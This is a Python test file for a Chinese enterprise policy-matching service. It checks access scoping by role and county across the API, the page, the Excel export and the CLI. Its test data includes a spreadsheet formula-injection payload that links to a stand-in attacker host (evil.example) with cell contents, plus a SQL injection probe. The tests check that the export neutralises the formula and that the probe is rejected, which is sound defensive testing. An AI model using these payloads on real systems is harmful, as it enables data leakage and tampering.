"""政策匹配 through the API, the page, its workbook and the CLI, on a real store (SQLite and
PostgreSQL): an enterprise sees only its own matches, an analyst its county's near misses."""

from __future__ import annotations

import json
from io import BytesIO

import polars as pl
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from api_site import get, open_site
from commerce_brain.cli import app as cli
from commerce_brain.fulfilment.data import save_policy_data
from commerce_brain.io.enterprise_import import PolicyData
from commerce_brain.policy.frames import EVENT_SCHEMA, conform
from commerce_brain.policy.sample import as_text
from commerce_brain.uscc import make_uscc

WAN = 1_000_000
A, B, C = make_uscc("91330802MA2A0000A"), make_uscc("91330881MA2A0000B"), make_uscc("91330802MA2A0000C")
NOBODY = make_uscc("91330802MA2A0000Y")
GAP_A = "年度研发投入 188.5 万元，距 200 万元门槛还差 11.5 万元"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def _enterprise(uscc, name, org_unit):
    return {"uscc": uscc, "name": name, "org_unit": org_unit, "industry": "C39", "is_manufacturing": True,
            "is_industrial": True, "is_listed": False, "is_provincial_or_central_owned": False}


def city() -> PolicyData:
    enterprises = pl.DataFrame([_enterprise(A, "衢州甲科技有限公司", "330802"),
                                _enterprise(B, "江山乙机械有限公司", "330881"),
                                _enterprise(C, EVIL, "330802")])
    facts = pl.DataFrame([
        {"uscc": A, "year": 2023, "main_revenue": 5000 * WAN, "rd_spend": 188_500_000},
        {"uscc": B, "year": 2023, "main_revenue": 5000 * WAN, "rd_spend": 195 * WAN},
        {"uscc": C, "year": 2022, "main_revenue": 100 * WAN, "rd_spend": 0},
        {"uscc": C, "year": 2023, "main_revenue": 1880 * WAN, "rd_spend": 0},
    ], schema={"uscc": pl.String, "year": pl.Int32, "main_revenue": pl.Int64, "rd_spend": pl.Int64})
    return PolicyData(enterprises, facts, conform(None, EVENT_SCHEMA))


ACCOUNTS = {"firm_a": {"role": "enterprise", "uscc": A}, "kecheng": {"role": "county_analyst", "org_unit": "330802"},
            "officer": {"role": "policy_officer"}, "finance": {"role": "finance_officer"}}


@pytest.fixture
def site(database_url, tmp_path):
    made = open_site(database_url, tmp_path, ACCOUNTS, lambda catalog: None)
    save_policy_data(made["engine"], city(), actor="loader")
    yield made
    made["engine"].dispose()


def test_an_enterprise_sees_its_near_miss_with_the_gap_in_yuan(site):
    answer = get(site, "firm_a", f"/api/v1/match?uscc={A}&year=2023")
    assert answer.status_code == 200
    rows = {r["rule_id"]: r for r in answer.json()["matches"]}
    assert rows["rd_subsidy"]["gaps"] == [GAP_A] and rows["rd_subsidy"]["near"] is True
    assert answer.json()["matches"][0]["met"] or answer.json()["matches"][0]["rule_id"] == "rd_subsidy"


def test_another_enterprise_answers_as_missing(site):
    other = get(site, "firm_a", f"/api/v1/match?uscc={B}")
    missing = get(site, "officer", f"/api/v1/match?uscc={NOBODY}")
    assert other.status_code == missing.status_code == 404
    assert other.json() == missing.json()
    assert B not in other.text and "江山乙" not in other.text
    # A county analyst: its county's enterprise, not another county's.
    assert get(site, "kecheng", f"/api/v1/match?uscc={A}").status_code == 200
    assert get(site, "kecheng", f"/api/v1/match?uscc={B}").json() == missing.json()


def test_the_survey_keeps_to_the_county_and_the_fraction(site):
    everyone = get(site, "officer", "/api/v1/match/near?within=0.1&year=2023").json()
    assert {(r["uscc"], r["rule_id"]) for r in everyone["near_misses"]} == {
        (A, "rd_subsidy"), (B, "rd_subsidy"), (C, "revenue_first_reaches_20m")}
    county = get(site, "kecheng", "/api/v1/match/near?within=0.1&year=2023").json()
    assert {r["uscc"] for r in county["near_misses"]} == {A, C}
    assert B not in json.dumps(county, ensure_ascii=False)
    tight = get(site, "officer", "/api/v1/match/near?within=0.05&year=2023").json()
    assert {(r["uscc"], r["rule_id"]) for r in tight["near_misses"]} == {(B, "rd_subsidy")}
    assert get(site, "finance", "/api/v1/match/near").status_code == 403
    assert get(site, "firm_a", "/api/v1/match/near").status_code == 403
    assert get(site, "officer", "/api/v1/match/near?within=2").status_code == 422



def test_the_survey_of_one_county(site):
    jiangshan = get(site, "officer", "/api/v1/match/near?within=0.1&year=2023&org_unit=330881").json()
    assert {r["uscc"] for r in jiangshan["near_misses"]} == {B}
    # Another county than the analyst's own: nothing, as if it had none.
    other = get(site, "kecheng", "/api/v1/match/near?within=0.1&year=2023&org_unit=330881").json()
    assert other["near_misses"] == [] and other["by_county_and_rule"] == []
    assert get(site, "officer", "/api/v1/match/near?org_unit=999999").status_code == 422
    assert get(site, "officer", "/api/v1/match/near?org_unit=x' or 1=1").status_code == 422
    page = get(site, "officer", "/match?within=10&year=2023&org_unit=330881")
    assert "江山乙机械有限公司" in page.text and "衢州甲科技有限公司" not in page.text
    assert '<option value="330881" selected>江山市</option>' in page.text
    # The analyst's page offers its county only.
    assert "江山市" not in get(site, "kecheng", "/match").text


def test_the_page_speaks_chinese_and_the_workbook_is_neutralised(site):
    page = get(site, "officer", "/match?within=10&year=2023")
    assert page.status_code == 200
    assert GAP_A in page.text and "柯城区" in page.text and "研发投入补助" in page.text
    for word in ("True", "False", "rd_subsidy", "amount_fen", "None"):
        assert word not in page.text
    book = load_workbook(BytesIO(get(site, "officer", "/match/export.xlsx?within=10&year=2023").content))
    names = [row[0] for row in book["企业明细"].iter_rows(min_row=2, values_only=True)]
    assert "'" + EVIL in names and EVIL not in names
    assert book["按地区和条款"]["A1"].value == "地区"


def _write(folder):
    data = city()
    folder.mkdir()
    for name, frame in (("enterprises", data.enterprises), ("facts", data.facts)):
        as_text(frame).write_csv(folder / f"{name}.csv")
    return folder


def test_the_cli_matches_one_enterprise_and_surveys_a_county(tmp_path):
    folder = _write(tmp_path / "city")
    runner = CliRunner()
    one = runner.invoke(cli, ["policy", "match", "--uscc", A, "--year", "2023", "--data", str(folder), "-f", "json"])
    assert one.exit_code == 0, one.output
    rows = {r["rule_id"]: r for r in json.loads(one.stdout[one.stdout.index("["):])}
    assert rows["rd_subsidy"]["gaps"] == [GAP_A]
    table = runner.invoke(cli, ["policy", "match", "--uscc", A, "--data", str(folder)])
    assert "差一点" in table.stdout and "188.5 万元" in table.stdout
    near = runner.invoke(cli, ["policy", "match", "--near", "0.1", "--org-unit", "江山市", "--data", str(folder),
                               "-f", "json"])
    assert near.exit_code == 0, near.output
    assert {r["uscc"] for r in json.loads(near.stdout[near.stdout.index("["):])} == {B}
    neither = runner.invoke(cli, ["policy", "match", "--data", str(folder)])
    assert neither.exit_code == 2
    unknown = runner.invoke(cli, ["policy", "match", "--uscc", NOBODY, "--data", str(folder)])
    assert unknown.exit_code == 1
